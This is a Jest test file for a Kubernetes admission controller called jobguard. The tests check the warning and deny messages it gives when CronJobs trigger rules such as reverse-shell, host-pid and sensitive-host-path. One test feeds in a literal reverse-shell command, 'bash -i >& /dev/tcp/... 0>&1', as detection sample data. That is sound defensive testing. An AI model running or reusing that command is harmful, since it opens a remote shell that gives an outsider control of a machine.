/**
 * Warnings and deny messages in Pod Security Admission's register: the tool, the rule, the
 * container or volume by name, what to change (the rule's hint) or which exemption to ask for;
 * one line of at most 120 characters each, most severe first. Then the same through a real review.
 */
import { describe, expect, it } from '@jest/globals';
import {
  ANNOTATION_MAX,
  auditAnnotationsFor,
  denyMessage,
  describeFinding,
  locate,
  warningsFor,
  WARNING_MAX,
} from '../src/admission/messages.js';
import { ruleDocUrl } from '../src/scoring/docs.js';
import type { Decision } from '../src/policy/decision.js';
import { findRule } from '../src/scoring/profiles.js';
import { ENGINE_ERROR_RULE, type Finding } from '../src/scoring/types.js';
import { fixture, makeReview, testApp } from './support/review.js';

const CRON = 'spec.jobTemplate.spec.template.spec';
const object = {
  spec: {
    jobTemplate: {
      spec: {
        template: {
          spec: {
            initContainers: [{ name: 'setup', image: 'alpine' }],
            containers: [{ name: 'backup', image: 'alpine' }, { image: 'busybox' }],
            volumes: [{ name: 'host-etc', hostPath: { path: '/etc' } }],
          },
        },
      },
    },
  },
};

function finding(rule: string, path: string, extra: Partial<Finding> = {}): Finding {
  return {
    rule,
    weight: 5,
    technique: 'T1611',
    message: findRule(rule)?.reason ?? rule,
    path,
    ...extra,
  };
}

function decision(findings: Finding[], overrides: Partial<Decision> = {}): Decision {
  return {
    profile: 'default',
    score: findings.reduce((sum, f) => sum + f.weight, 0),
    verdict: 'deny',
    mode: 'enforce',
    action: 'deny',
    thresholds: { annotate: 2, warn: 4, deny: 8 },
    findings,
    waived: [],
    exemptions: [],
    errors: [],
    ...overrides,
  };
}

describe('locate', () => {
  it.each([
    [`${CRON}.containers[0].args[0]`, 'container "backup"'],
    [`${CRON}.initContainers[0].command[2]`, 'init container "setup"'],
    [`${CRON}.volumes[0].hostPath.path`, 'volume "host-etc"'],
    // No name where the path points (or no object at all): the index, never a wrong name.
    [`${CRON}.containers[1].image`, 'container #1'],
    [`${CRON}.containers[7].image`, 'container #7'],
    [`${CRON}.hostPID`, undefined],
    ['spec.schedule', undefined],
  ])('%s → %s', (path, expected) => {
    expect(locate(path, object)).toBe(expected);
  });

  it('quotes a name so it cannot break the line', () => {
    const odd = { spec: { containers: [{ name: 'a"b\nc' }] } };
    expect(locate('spec.containers[0].image', odd)).toBe('container "a\\"b c"');
  });
});

describe('describeFinding', () => {
  it('names the tool, the rule, where, the value, and the rule hint', () => {
    expect(
      describeFinding(
        finding('sensitive-host-path', `${CRON}.volumes[0].hostPath.path`, { detail: '/etc' }),
        object,
      ),
    ).toBe(
      'jobguard: sensitive-host-path: sensitive hostPath in volume "host-etc" (/etc); do not mount node system paths',
    );
    expect(describeFinding(finding('host-pid', `${CRON}.hostPID`), object)).toBe(
      'jobguard: host-pid: host PID namespace; remove hostPID',
    );
  });

  it('says which exemption to ask for when the rule has no hint', () => {
    expect(findRule('reverse-shell')?.hint).toBeUndefined();
    expect(describeFinding(finding('reverse-shell', `${CRON}.containers[0].args[0]`), object)).toBe(
      'jobguard: reverse-shell: reverse shell in container "backup"; if intended, ask for an exception',
    );
  });

  it('stays within 120 characters: the value shortens first, then goes, the rule and where always stay', () => {
    const long = finding('reverse-shell', `${CRON}.containers[0].args[0]`, {
      detail: `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 ${'x'.repeat(200)}`,
    });
    const line = describeFinding(long, object);
    expect(line.length).toBeLessThanOrEqual(WARNING_MAX);
    expect(line).toMatch(
      /^jobguard: reverse-shell: reverse shell in container "backup" \(bash -i >& .*…\); if intended/,
    );
    const named = { spec: { containers: [{ name: 'n'.repeat(40) }] } };
    const tight = describeFinding(
      finding('reverse-shell', 'spec.containers[0].args[0]', { detail: 'y'.repeat(100) }),
      named,
    );
    expect(tight.length).toBeLessThanOrEqual(WARNING_MAX);
    expect(tight).toContain('reverse-shell');
    expect(tight).toContain('n'.repeat(20));
  });
});

describe('warningsFor and denyMessage', () => {
  const findings = [
    finding('reverse-shell', `${CRON}.containers[0].args[0]`, { weight: 9 }),
    finding('host-pid', `${CRON}.hostPID`, { weight: 4 }),
    finding('unpinned-image', `${CRON}.initContainers[0].image`, { weight: 1, detail: 'alpine' }),
  ];

  it('puts the most severe first, one line each, each <= 120 characters, and names the rules it leaves out', () => {
    const many = Array.from({ length: 10 }, (_, i) =>
      finding('host-pid', `${CRON}.hostPID`, { rule: `rule-${i}`, weight: 10 - i }),
    );
    const lines = warningsFor(decision(many, { action: 'warn', mode: 'warn' }), {
      kind: 'CronJob',
      name: 'nightly',
      object,
    });
    expect(lines[0]).toBe('jobguard: CronJob nightly would be denied in enforce mode (score 55, deny at 8)');
    expect(lines).toHaveLength(8);
    expect(lines.slice(1, 7).map((l) => /^jobguard: (rule-\d)/.exec(l)?.[1])).toEqual([
      'rule-0',
      'rule-1',
      'rule-2',
      'rule-3',
      'rule-4',
      'rule-5',
    ]);
    expect(lines[7]).toBe('jobguard: … and 4 more: rule-6, rule-7, rule-8, rule-9');
    for (const line of lines) {
      expect(line.length).toBeLessThanOrEqual(WARNING_MAX);
      expect(line).not.toMatch(/[\n\r]/);
    }
  });

  it('denies on one line that names every rule with where it fired and what to do', () => {
    const message = denyMessage(decision(findings), { kind: 'CronJob', name: 'nightly', object });
    expect(message).toBe(
      'jobguard: CronJob nightly denied, score 14 reaches deny threshold 8: ' +
        'reverse-shell (reverse shell in container "backup"), host-pid (host PID namespace), ' +
        'unpinned-image (unpinned image in init container "setup": alpine); ' +
        'change what these rules flag, or ask for a JobguardException naming them; ' +
        'see https://github.com/jobguard/jobguard/blob/main/docs/rules.md#reverse-shell',
    );
  });

  it('links the most severe rule only, and the engine-error section when only a rule failure denied', () => {
    const reordered = [findings[2]!, findings[1]!].map((f, i) => ({ ...f, weight: 5 - i }));
    const message = denyMessage(decision(reordered), { kind: 'CronJob', name: 'nightly', object });
    expect(message.endsWith(`; see ${ruleDocUrl('unpinned-image')}`)).toBe(true);
    expect(message.match(/https:\/\//g)).toHaveLength(1);
    expect(message).not.toMatch(/[\n\r]/);
    const failed = denyMessage(decision([], { errors: ['reverse-shell'] }), { kind: 'Job', name: 'j' });
    expect(failed).toContain('reverse-shell (rule failed, onError: deny)');
    expect(failed.endsWith(`; see ${ruleDocUrl(ENGINE_ERROR_RULE)}`)).toBe(true);
  });
});

describe('the rule-docs audit annotation', () => {
  it('lists the section of every rule that fired, in the rules annotation order', () => {
    const annotations = auditAnnotationsFor(
      decision([
        finding('reverse-shell', `${CRON}.containers[0].args[0]`, { weight: 9 }),
        finding('reverse-shell', `${CRON}.containers[1].args[0]`, { weight: 9 }),
        finding('host-pid', `${CRON}.hostPID`, { weight: 4 }),
      ]),
    );
    expect(annotations.rules).toBe('reverse-shell,host-pid');
    expect(annotations['rule-docs']).toBe(`${ruleDocUrl('reverse-shell')},${ruleDocUrl('host-pid')}`);
  });

  it('is absent when no rule fired, and keeps whole URLs within the annotation limit', () => {
    expect(
      auditAnnotationsFor(decision([], { verdict: 'allow', action: 'allow' }))['rule-docs'],
    ).toBeUndefined();
    const many = Array.from({ length: 40 }, (_, i) =>
      finding('host-pid', `${CRON}.hostPID`, { rule: `rule-number-${i}`, weight: 40 - i }),
    );
    const docs = auditAnnotationsFor(decision(many))['rule-docs']!;
    expect(docs.length).toBeLessThanOrEqual(ANNOTATION_MAX);
    const urls = docs.split(',');
    expect(urls.length).toBeGreaterThan(5);
    expect(urls.length).toBeLessThan(40);
    expect(urls).toEqual(many.slice(0, urls.length).map((f) => ruleDocUrl(f.rule)));
  });
});

describe('through a review', () => {
  it('names the container of a real CronJob in the warnings and the deny message', async () => {
    const { app } = testApp({ mode: 'enforce' });
    const cronJob = fixture('kubectl/reverse-shell-cronjob.json');
    const res = await app.inject({ method: 'POST', url: '/validate', payload: makeReview(cronJob) });
    const { response } = res.json<{
      response: {
        allowed: boolean;
        warnings: string[];
        status: { message: string };
        auditAnnotations: Record<string, string>;
      };
    }>();
    const container = (
      cronJob as {
        spec: { jobTemplate: { spec: { template: { spec: { containers: { name: string }[] } } } } };
      }
    ).spec.jobTemplate.spec.template.spec.containers[0]!.name;
    expect(response.allowed).toBe(false);
    expect(
      response.warnings.some(
        (w) => w.startsWith('jobguard: reverse-shell: ') && w.includes(`container "${container}"`),
      ),
    ).toBe(true);
    expect(response.status.message).toContain(`in container "${container}"`);
    // The link names the rule the message lists first; the annotation links every rule it names.
    const firstRule = /denied, score \d+ reaches deny threshold \d+: ([a-z0-9-]+) \(/.exec(
      response.status.message,
    )?.[1];
    expect(response.status.message.endsWith(`; see ${ruleDocUrl(firstRule ?? '?')}`)).toBe(true);
    expect(response.auditAnnotations['rule-docs']).toBe(
      response.auditAnnotations.rules!.split(',').map(ruleDocUrl).join(','),
    );
  });
});
